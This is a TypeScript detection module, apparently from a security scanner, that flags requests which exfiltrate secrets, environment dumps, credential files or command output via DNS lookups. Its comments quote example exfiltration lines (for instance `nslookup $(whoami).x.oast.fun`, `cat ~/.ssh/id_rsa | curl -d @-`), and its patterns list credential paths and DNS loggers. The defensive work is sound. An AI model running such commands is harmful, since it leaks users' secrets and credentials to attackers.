/**
 * adversarial_url readings of what a request sends out besides its URL's path and query (docs/content.md): a vendor's
 * secret variable in the URL's user-info, or in a header, a body or a call's argument on the request's own line, and
 * the whole environment or a credentials file uploaded, to a request catcher, a tunnel or a raw public address; and a
 * command's output or a secret's variable written as a label of a host that is looked up or fetched (DNS
 * exfiltration: `nslookup $(whoami).x.oast.fun`). The variable is read in the syntaxes of shells, CI expressions,
 * PowerShell, cmd, Groovy, Node and Python. A secret sent to its vendor's host or to a company's named host is not read.
 */
import { afterLastBreak, beforeFirstBreak } from './line-bounds.js';
import { CATCHER, isPublicAddress, namesSecret, sentElsewhere, TUNNEL } from './carried.js';
import type { Hit } from './codes.js';
import type { Text } from './find.js';
import { atWordStarts } from './word-lists.js';

/**
 * A variable's reference, its name in one group: a CI expression's stored secret (1), PowerShell's `$env:X`, Groovy's
 * `${env.X}` (2), a shell's `$X` or `${X}` (3), cmd's `%X%` (4), `env.X` (5), Node's `process.env.X` (6), Python's
 * `os.environ["X"]`, `os.environ.get("X")`, `os.getenv("X")` (7), Go's `os.Getenv("X")`, Java's `System.getenv("X")`,
 * PHP's `getenv('X')`, Ruby's `ENV.fetch("X")`, Rust's `env::var("X")` (8), Ruby's `ENV["X"]` (9).
 */
const REFERENCE =
  /\$\{\{\s{0,3}secrets\.([A-Za-z0-9_]{1,80})|\$\{?[Ee][Nn][Vv][:.]([A-Za-z_][A-Za-z0-9_]{1,60})|\$\{?([A-Z][A-Z0-9_]{1,60})|%([A-Z][A-Z0-9_]{1,60})%|\benv\.([A-Z][A-Z0-9_]{1,60})|process\.env(?:\.|\[\s{0,2}\\?["'`])([A-Z][A-Z0-9_]{1,60})|\bos\.(?:environ(?:\.get\(|\[)|getenv\()\s{0,2}\\?["']([A-Z][A-Z0-9_]{1,60})|\b(?:os\.Getenv|System\.getenv|getenv|ENV\.fetch|env::var)\(\s{0,2}\\?["']([A-Z][A-Z0-9_]{1,60})|\bENV\[\s{0,2}\\?["']([A-Z][A-Z0-9_]{1,60})/g;

/**
 * Whether `s` refers to a secret's variable: one named for a vendor none of whose labels `labels` has (a host's), or,
 * with no labels, any whose name says a secret.
 */
export function refersToSecret(s: string, labels: readonly string[] | null): boolean {
  REFERENCE.lastIndex = 0;
  for (let m = REFERENCE.exec(s); m; m = REFERENCE.exec(s)) {
    const stored = m[1] !== undefined;
    const name = (m[1] ?? m[2] ?? m[3] ?? m[4] ?? m[5] ?? m[6] ?? m[7] ?? m[8] ?? m[9]!).toUpperCase();
    // In a host (no labels), a stored secret's name must say a secret too: CI keeps hosts among its secrets (`secrets.DEPLOY_HOST`).
    if (labels === null ? namesSecret(name) : sentElsewhere(name, labels, stored)) return true;
  }
  return false;
}

/**
 * A command or a call that sends a request (a URL's own scheme is not one): shells' clients, HTTPie with its options
 * (`http -f POST`), Node's, Python's, Go's (`http.Post(`), Ruby's (`Net::HTTP`, `HTTParty`), Java's (`HttpRequest`),
 * PHP's (`file_get_contents`, `curl_setopt`) and Rust's (`reqwest`). Built by atWordStarts: cheap without V8's pattern
 * optimizations.
 */
export const REQUESTER = atWordStarts(
  /\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|axios|webclient|npm|pip|httpx|net::http|httparty|restclient|httprequest|file_get_contents|curl_setopt|reqwest)\b|\bhttps?\s{1,3}(?:-{1,2}[\w-]{1,20}\s{1,3}){0,3}(?:get|post|put|patch|delete)\b|\b(?:https?\.(?:get|request|post|newrequest|postform)|fetch|requests\.(?:get|post|put|patch|request)|urlopen|uri\.open)\s{0,2}\(|\bgit\s{1,3}(?:push|clone|fetch|pull|remote|ls-remote)\b/i,
);
/**
 * The whole environment as a request's body: `$(env)`, `<(env)`, `env |`, `printenv >`, `process.env`, `os.environ`,
 * Ruby's `ENV.to_h`, Java's `System.getenv()`, Go's `os.Environ()`, PHP's `getenv()`, PowerShell's `Get-ChildItem env:`
 * and `[Environment]::GetEnvironmentVariables()` (not `env | grep APP_`, `printenv | wc -l`, `gci env: | Where-Object …`
 * or `| Measure-Object`, not one variable of it, `process.env.X`, `os.environ.get(…)`, nor `{ ...process.env }` handed
 * to a child).
 */
export const ENV_DUMP =
  /[$<]\(\s{0,2}(?:env|printenv|set)\s{0,2}(?:\)|\|(?!\s{0,3}(?:grep|awk|cut|head|tail|sed|sort|uniq|wc|cksum|md5sum|sha\d{0,3}sum)\b))|(?:^|[\s;&(])(?:env|printenv|set)\s{0,2}[|>](?!\s{0,3}(?:grep|awk|cut|head|tail|sed|sort|uniq|wc|cksum|md5sum|sha\d{0,3}sum)\b)|stringify\(\s{0,2}(?:process\.env|\{\s{0,2}\.\.\.process\.env\s{0,2}\})\s{0,2}\)|\bdict\(\s{0,2}os\.environ\s{0,2}\)|\b(?:json|data)\s{0,2}=\s{0,2}(?:dict\()?os\.environ(?![.[\w])|\bbody:\s{0,2}process\.env(?![.[\w])|\bENV\.(?:to_h|to_hash|to_a|inspect)\b|\b(?:System\.getenv|os\.Environ|getenv)\(\)|\[Environment\]::GetEnvironmentVariables\(\)|\b(?:Get-ChildItem|[Gg]ci|dir|ls)\s{1,3}[Ee]nv:\s{0,3}(?:\)|\|(?!\s{0,3}(?:Where|\?|Select-String|sls|findstr|Measure-Object|measure)))/;
/**
 * Files that hold credentials, or a directory of them whole (`tar … ~/.ssh`); not a public key (`id_rsa.pub`), a
 * directory's other files (`~/.ssh/config`, `known_hosts`), nor an env file's sample (`.env.example`).
 */
export const SECRET_PATH =
  /\.aws\/credentials|\.ssh\/id_\w{1,20}(?!\.pub)\b|~\/\.(?:ssh|aws|gnupg)(?:\/(?![\w.-])|(?![\w./-]))|\.git-credentials|\.netrc\b|\.npmrc\b|\.pypirc\b|\.docker\/config\.json|\.kube\/config|\.config\/gh\/hosts\.yml|application_default_credentials\.json|\/etc\/(?:passwd|shadow)\b|(?:^|[\s@="'/])\.env(?![\w-]|\.(?:sample|example|template|dist|defaults?)\b)/;
/**
 * What a command uploads (group 1): a file after `-d @`, `-F f=@`, `-T`, `--upload-file`, `--post-file=`, read by
 * `cat` into a pipe or a substitution, or archived by `tar` into a pipe (group 2, the archive's arguments).
 */
const UPLOADED =
  /(?:\s(?:-d|-F|--data(?:-binary|-raw|-urlencode|-ascii)?|--form|-T|--upload-file)\s{1,3}\\?["']?(?:[\w-]{1,40}=)?@?|--(?:post|body)-file=|\bcat\s{1,3})([^\s"'|()\\]{1,200})/g;
/** An archive made into a pipe, its arguments in group 1: read only on a line with a pipe (each `tar` read 200 code units on). */
const TAR_PIPED = /\btar\s([^|\n]{1,200})\|/g;

/** Whether a command uploads a credentials file (`--data-binary @~/.aws/credentials`, `cat ~/.ssh/id_rsa | curl -d @-`). */
export function uploadsSecretFile(line: string): boolean {
  for (const re of line.includes('|') ? [UPLOADED, TAR_PIPED] : [UPLOADED]) {
    re.lastIndex = 0;
    for (let m = re.exec(line); m; m = re.exec(line)) if (SECRET_PATH.test(m[1]!)) return true;
  }
  return false;
}
/** A shell's line continuation, raw or in a JSON string: the command goes on after it. */
const CONTINUATION = /\\(?:\r?\n|\\\\n)/g;

/** A double-quoted value a command passes (`"a=1; b=2"`, raw or JSON-escaped), opened after a blank or `=`. */
const QUOTED_VALUE = /(?:^|[\s=])\\?"[^"\n]{1,300}"/g;

/** `s` with the `;` of its quoted values blanked, the same length (only where it holds both). */
function quotedKept(s: string): string {
  if (!s.includes(';') || !s.includes('"')) return s;
  return s.replace(QUOTED_VALUE, (q) => q.replaceAll(';', ' '));
}

/** The command a URL stands in: its line, joined to the lines a trailing backslash continues, at most 400 code units either side. */
export function commandAround(text: string, start: number, end: number): string {
  let before = text.slice(Math.max(0, start - 400), start);
  if (before.includes('\\')) before = before.replace(CONTINUATION, '  ');
  // After a JSON string's `\n`, both its code units: the line starts at its command (`\ncurl …`, not `ncurl …`).
  before = afterLastBreak(before);
  let after = text.slice(end, end + 400);
  if (after.includes('\\')) after = after.replace(CONTINUATION, '  ');
  after = beforeFirstBreak(after);
  // Another command on the same line (`gh auth login --with-token <<< "$GITHUB_TOKEN" && curl …`) sends nothing of this one's.
  // So does the next item of a JSON list or record written on one line (`"cmd":"curl …","env":…`).
  // A `;` inside a quoted value (`-H "Cookie: a=1; s=$SESSION_TOKEN"`) separates nothing.
  const sepBefore = Math.max(
    before.lastIndexOf('&&'),
    before.lastIndexOf('||'),
    quotedKept(before).lastIndexOf(';'),
    before.lastIndexOf('","'),
  );
  if (sepBefore >= 0) before = before.slice(sepBefore + 1);
  const sepAfter = quotedKept(after).search(/&&|\|\||;|",\\?"/);
  if (sepAfter >= 0) after = after.slice(0, sepAfter);
  return before + text.slice(start, end) + after;
}

/**
 * A request to a catcher or a tunnel whose own command or call sends a vendor's secret variable (`-H "Authorization:
 * Bearer $GITHUB_TOKEN"`, `{ t: process.env.NPM_TOKEN }`), and a request to a catcher, a tunnel or a raw public address
 * that sends the whole environment or a credentials file. A raw public address is where self-hosted services (a
 * registry, a GitLab, a model server speaking OpenAI's API) answer under the vendor's variable names: only a secret in
 * the URL's own query or path (`?d=" + os.environ.get("OPENAI_API_KEY")`) is read there, as carried.ts reads `$X`.
 * `after` is the text after the URL.
 */
export function sendsWithRequest(text: string, start: number, end: number, host: string, rest: string): boolean {
  const catcher = CATCHER.test(host);
  if (!catcher && !isPublicAddress(host)) return false;
  const line = commandAround(text, start, end);
  if (!REQUESTER.test(line)) return false;
  // A URL given as a value after the request's own URL (`curl https://api.stripe.com/… -d url=https://….ngrok-free.app`,
  // `"request_url":"…"`, `redirect_uri=`) is data the request carries to its own host, not where it goes.
  if (VALUE_BEFORE.test(text.slice(Math.max(0, start - 4), start)) && line.lastIndexOf('://', line.indexOf(text.slice(start, end))) >= 0)
    return false;
  const labels = host.split('.');
  if (!catcher && refersToSecret(rest + urlTail(text, end, rest), labels)) return true;
  return sendsOut(line, catcher && !TUNNEL.test(host), labels);
}

/**
 * Whether a request's command or call sends the whole environment or a credentials file, or, to a catcher that is no
 * tunnel (`oneSecret`), a vendor's secret variable. A tunnel is a developer's own server as often as an attacker's (a
 * model proxy behind ngrok takes `$OPENAI_API_KEY`): one variable sent there is not read.
 */
export function sendsOut(command: string, oneSecret: boolean, labels: readonly string[]): boolean {
  if (oneSecret && refersToSecret(command.replace(SIGNING, ' '), labels)) return true;
  return ENV_DUMP.test(command) || uploadsSecretFile(command);
}

/** What stands right before a URL given as a value: `=`, or a key's `:` and its value's quote. */
const VALUE_BEFORE = /(?:=\\?["']?|:\s{0,2}\\?["'])$/;
/** A substitution that signs with a secret (`$(… | openssl dgst -hmac "$SECRET" …)`): the key stays here, its digest is sent. */
const SIGNING = /\$\([^()]{0,300}(?:openssl|hmac|sha\d{1,3}sum)[^()]{0,300}\)/gi;

/** A value joined to a URL that ends in a parameter's `=` (`"http://…/?d=" + os.environ.get("X")`, `+ process.env.X`). */
const JOINED = /^\\?["'`]\s{0,3}\+\s{0,3}([^\s)]{1,100})/;

/** What the code after a URL adds to it: a brace's expression where URL_RE stopped at `${`, a value joined after `=`. */
function urlTail(text: string, end: number, rest: string): string {
  if (rest.endsWith('$')) return text.slice(end, end + 100).replace(/\}.{0,100}$/s, '}');
  if (!rest.endsWith('=')) return '';
  return JOINED.exec(text.slice(end, end + 120))?.[1] ?? '';
}

/** The most code units a host word is read over. */
const WORD_MAX = 300;

/**
 * The word at `from` as a shell reads it: `$(…)`, `${…}` and a backtick's substitution are one piece whatever they hold
 * (blanks, pipes, a CI expression's braces); outside them it ends at a blank, a quote, `/ ? #` or `<>` when `url`.
 */
function wordAt(text: string, from: number, url: boolean): string {
  let depth = 0;
  let tick = false;
  let at = from;
  for (; at < text.length && at - from < WORD_MAX; at++) {
    const c = text.charCodeAt(at);
    if (tick) {
      if (c === 0x60) tick = false;
      continue;
    }
    if (c === 0x24 && (text.charCodeAt(at + 1) === 0x28 || text.charCodeAt(at + 1) === 0x7b)) {
      depth++;
      at++;
      continue;
    }
    if (depth > 0) {
      if (c === 0x28 || c === 0x7b) depth++;
      else if (c === 0x29 || c === 0x7d) depth--;
      else if (c === 0x0a) break;
      continue;
    }
    if (c === 0x60) {
      tick = true;
      continue;
    }
    if (c <= 0x20 || c === 0x22 || c === 0x27 || c === 0x3c || c === 0x3e || c === 0x29 || c === 0x5c) break;
    if (url && (c === 0x2f || c === 0x3f || c === 0x23)) break;
  }
  return text.slice(from, at);
}

/** Where a host's dynamic pieces end: after the last `$(…)`, `${…}`, backtick substitution, `$env:X`, `$X` or `%X%`. */
const DYNAMIC = /\$\{\{[^{}]{0,100}\}\}|\$\([^()]{0,200}\)|\$\{[^{}]{0,200}\}|`[^`]{0,200}`|\$[Ee][Nn][Vv]:\w{1,60}|\$\w{1,60}|%\w{1,60}%/g;
/** The out-of-band testers' DNS loggers (a tunnel's name is looked up honestly: `dig ${SUBDOMAIN}.ngrok-free.app`). */
const DNS_LOGGER =
  /(?:^|\.)(?:oast\.(?:fun|pro|live|site|online|me)|oastify\.com|burpcollaborator\.net|interact\.sh|interactsh\.com|requestrepo\.com|dnslog\.cn|ceye\.io|canarytokens\.com)$/;
/** A domain of two labels or more. */
const DOMAIN = /^[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,10}$/;

/**
 * A host built from a command's output or a variable (`$(whoami).x.oast.fun`, `${GITHUB_TOKEN}.d.attacker.tld`) whose
 * fixed part is a DNS logger's domain, or whose variable or substitution holds a secret: the lookup carries it out.
 */
function dynamicHostSends(host: string): boolean {
  let last = -1;
  let pieces = '';
  DYNAMIC.lastIndex = 0;
  for (let m = DYNAMIC.exec(host); m; m = DYNAMIC.exec(host)) {
    last = m.index + m[0].length;
    pieces += ` ${m[0]}`;
  }
  if (last < 0) return false;
  const domain = host
    .slice(last)
    .replace(/^[.-]{1,3}/, '')
    .replace(/[:"'].{0,300}$/, '')
    .toLowerCase();
  if (!DOMAIN.test(domain)) return false;
  if (DNS_LOGGER.test(domain) || refersToSecret(pieces, null)) return true;
  // A field taken out of a credentials file (`$(grep API_HOST .env | cut -d= -f2)`) is sent only when its name says a secret.
  const field = /\bgrep\s{1,3}(?:-\w{1,4}\s{1,3}){0,3}["']?\^?([A-Za-z_]\w{1,60})/.exec(pieces);
  return field !== null ? namesSecret(field[1]!.toUpperCase()) : SECRET_PATH.test(pieces);
}

/**
 * A URL's authority that holds a variable or a substitution (`https://x:${AWS_SECRET_ACCESS_KEY}@45.61.136.12/`,
 * `https://${{ secrets.NPM_TOKEN }}@…`, `http://$(whoami).x.oast.fun/`), read from the text at `from` (after `://`)
 * since URL_RE stops at a brace or a blank inside it: a vendor's secret in the user-info of a catcher's, a tunnel's or
 * a raw public address, or a host built to carry data out.
 */
export function sendsInAuthority(text: string, from: number): boolean {
  const authority = wordAt(text, from, true);
  const at = authority.lastIndexOf('@');
  // As written: a variable's name keeps its case (`$AWS_SECRET_ACCESS_KEY.x.tld`); the host's labels are compared lower-cased.
  const written = (at >= 0 ? authority.slice(at + 1) : authority).replace(/:\d{1,5}$/, '');
  const host = written.toLowerCase();
  // Only a catcher's: a self-hosted git server or registry on a raw address, or behind a tunnel, takes the vendor's token so.
  if (at > 0 && CATCHER.test(host) && !TUNNEL.test(host) && refersToSecret(authority.slice(0, at), host.split('.'))) return true;
  return dynamicHostSends(written);
}

/** A lookup command, its options, and a host that starts with a variable or a substitution. */
const LOOKUP = /\b(?:nslookup|dig|host|ping|resolve-dnsname)\s{1,3}(?:(?:[-+@][\w.=:-]{0,40}|\d{1,3})\s{1,3}){0,4}\\?["']?(?=[$`%])/i;
/** Where LOOKUP's matches are (find.ts LITERALS): each starts at its command. */
const LOOKUP_ANCHORS = ['nslookup', 'dig ', 'host ', 'ping ', 'resolve-dnsname'];

/** DNS exfiltration by a lookup of a host built from a command's output or a secret's variable (dynamicHostSends). */
export function detectDynamicLookups(t: Text, out: Hit[]): void {
  // Tried only where the literal index found a command's name (most texts name none).
  for (const m of t.findNear(LOOKUP, LOOKUP_ANCHORS, 0, 'ndhpr')) {
    const from = m.index + m[0].length;
    if (dynamicHostSends(wordAt(t.text, from, false))) out.push({ code: 'url_exfiltration', start: m.index, end: from });
  }
}
